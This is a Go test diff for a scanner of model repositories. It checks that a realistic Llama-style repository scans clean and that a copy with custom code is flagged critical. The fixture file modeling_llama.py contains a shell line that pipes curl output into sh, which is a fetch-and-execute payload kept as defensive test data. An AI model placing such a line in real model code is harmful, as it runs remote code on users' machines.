@@ -7,6 +7,8 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -314,5 +316,67 @@ func TestURLsAndSingleFiles(t *testing.T) {
 		if !strings.Contains(files[0].Path, commit) && !strings.Contains(in, "datasets") {
 			t.Errorf("%s: path %q not pinned to %s", in, files[0].Path, commit)
 		}
+	}
+}
+
+// A repository laid out like a real Llama-style Hub model (configs, a
+// SentencePiece tokenizer, a chat template, safetensors and a torch.save
+// state dict written by the real libraries, docs) passes clean; the same
+// repository with custom code that shells out fails.
+func TestRealisticRepository(t *testing.T) {
+	read := func(p string) []byte {
+		b, err := os.ReadFile(filepath.Join("..", "formats", p))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return b
+	}
+	files := []hubtest.File{
+		{Path: ".gitattributes", Content: []byte("*.safetensors filter=lfs diff=lfs merge=lfs -text\n")},
+		{Path: "README.md", Content: []byte("---\nlicense: apache-2.0\n---\n# tiny llama\n")},
+		{Path: "config.json", Content: []byte(`{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8}`)},
+		{Path: "generation_config.json", Content: []byte(`{"bos_token_id": 1, "eos_token_id": 2}`)},
+		{Path: "tokenizer_config.json", Content: []byte(`{"bos_token": "<s>", "chat_template": "{% for message in messages %}{{ '<|' + message['role'] + '|>\n' + message['content'] + eos_token }}{% endfor %}"}`)},
+		{Path: "special_tokens_map.json", Content: []byte(`{"bos_token": "<s>", "eos_token": "</s>"}`)},
+		{Path: "tokenizer.json", Content: []byte(`{"version": "1.0", "model": {"type": "BPE", "vocab": {}}}`)},
+		{Path: "tokenizer.model", Content: read("sentencepiece/testdata/benign/unigram.model"), LFS: true},
+		{Path: "model.safetensors", Content: read("safetensors/testdata/benign/multi.safetensors"), LFS: true},
+		{Path: "pytorch_model.bin", Content: read("pytorch/testdata/benign/state-dict-p4.pt"), LFS: true},
+	}
+	srv := hubtest.New()
+	defer srv.Close()
+	srv.AddRepo(hubtest.Repo{ID: "org/tiny-llama", Files: files})
+	custom := append([]hubtest.File{}, files...)
+	custom[2] = hubtest.File{Path: "config.json", Content: []byte(`{"model_type": "llama", "auto_map": {"AutoModelForCausalLM": "modeling_llama.LlamaForCausalLM"}}`)}
+	custom = append(custom, hubtest.File{Path: "modeling_llama.py", Content: []byte("import subprocess\nsubprocess.run(['sh', '-c', 'curl x | sh'])\n")})
+	srv.AddRepo(hubtest.Repo{ID: "org/tiny-llama-custom", Files: custom})
+
+	src, res := remote.Scan(context.Background(), scan.New(), newClient(srv), "hf://org/tiny-llama")
+	formats := map[string]string{}
+	for _, f := range res {
+		formats[f.Path[strings.LastIndex(f.Path, "/")+1:]] = f.Format
+		if len(f.Errors) > 0 || worst(f) >= finding.Medium {
+			t.Errorf("%s (%s): errors %v, findings %+v", f.Path, f.Format, f.Errors, f.Findings)
+		}
+	}
+	for name, want := range map[string]string{"tokenizer.model": "sentencepiece", "model.safetensors": "safetensors",
+		"config.json": "hf-config", "tokenizer_config.json": "hf-config"} {
+		if formats[name] != want {
+			t.Errorf("%s analysed as %q, want %q (all: %v)", name, formats[name], want, formats)
+		}
+	}
+	if !strings.Contains(formats["pytorch_model.bin"], "pytorch") {
+		t.Errorf("pytorch_model.bin analysed as %q", formats["pytorch_model.bin"])
+	}
+	if src.Files != len(files) {
+		t.Errorf("source %+v", src)
+	}
+	_, res = remote.Scan(context.Background(), scan.New(), newClient(srv), "hf://org/tiny-llama-custom")
+	failed := false
+	for _, f := range res {
+		failed = failed || worst(f) == finding.Critical
+	}
+	if !failed {
+		t.Errorf("custom code running subprocess not flagged critical")
 	}
 }
